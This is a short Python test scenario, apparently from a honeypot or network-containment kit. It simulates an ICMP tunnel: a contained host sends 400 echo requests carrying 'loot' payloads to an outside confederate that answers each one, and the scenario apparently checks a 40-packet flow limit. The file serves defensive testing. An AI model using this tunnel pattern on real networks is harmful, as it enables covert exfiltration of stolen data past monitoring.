# SPDX-License-Identifier: Apache-2.0
"""An ICMP tunnel with a confederate who answers every request."""
from kit import *

ALLOWED, AT_LEAST = 40, 10
POLICY = policy(flow_packets=40)


def attack(pot, out, family):
    src, dst = pot.ip(family), out.ip(family)
    ask, reply = (128, 129) if family == 6 else (8, 0)
    out.answer(lambda frame: [icmp(dst, src, reply, struct.pack(">HH", 9, 1) + b"more" * 50)])
    pot.send_packets([icmp(src, dst, ask, struct.pack(">HH", 9, n & 0xffff) + b"loot" * 250) for n in range(400)],
                     1000)
